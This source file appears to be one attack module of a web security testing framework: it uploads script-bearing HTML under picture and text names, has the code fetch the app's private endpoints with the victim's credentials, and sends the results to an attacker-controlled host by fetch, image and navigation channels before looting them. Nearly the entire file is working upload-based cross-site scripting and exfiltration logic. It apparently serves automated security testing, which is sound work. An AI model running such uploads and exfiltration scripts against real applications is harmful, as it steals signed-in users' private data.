// mime-upload: uploads a page with a script under names and types of pictures and texts, and sends
// the victim to it. What a browser takes for HTML or SVG runs with the rights of the app's origin
// (OWASP File Upload Cheat Sheet; MIME Sniffing standard). An old browser's plug-in takes any file
// for a movie that a page of the attacker's calls one.
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"
#include "core/attack/upload.h"

namespace parapet::attack {
namespace {

class MimeUpload final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                             send_script(Channel::Image, address, kAllInReach);
        for (Endpoint const* each : private_endpoints(target))
            script += fetch_and_send(app_origin(target) + each->path, address);
        auto const movies = upload(target, script);
        // A policy may leave no other way out than to another page.
        for (Endpoint const* each : private_endpoints(target))
            script += "fetch(" + script_string(app_origin(target) + each->path) +
                      ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
                      send_script(Channel::Navigation, address, "t") + "});";
        auto const pages = upload(
            target, "<!doctype html><title>A picture</title><script>" + script + "</script>");
        if (pages.empty() || !victim_signs_in(target)) return;
        for (std::string const& path : pages) {
            if (!received_texts(target).empty()) break;
            target.victim()->opens(whole(target, path));
            target.victim()->turns_away();
        }
        // As a movie in a page of his own it would be a program of the app's host.
        std::string html;
        for (std::string const& path : movies)
            html += "<embed type=\"" + std::string(kMovieType) +
                    "\" src=" + in_quotes(whole(target, path)) + ">";
        for (OwnHost* host : {evil, sibling_host(target)})
            if (host != nullptr) Lure(target, *host).show(html);
        target.note(std::to_string(pages.size()) + " uploaded files were opened by a link.");
        try_loot(target, received_texts(target));
    }

    static std::string whole(Target const& target, std::string const& path) {
        return path.find("://") != std::string::npos ? path : app_origin(target) + path;
    }
};

}  // namespace

std::unique_ptr<Agent> make_mime_upload() { return std::make_unique<MimeUpload>(); }

}  // namespace parapet::attack
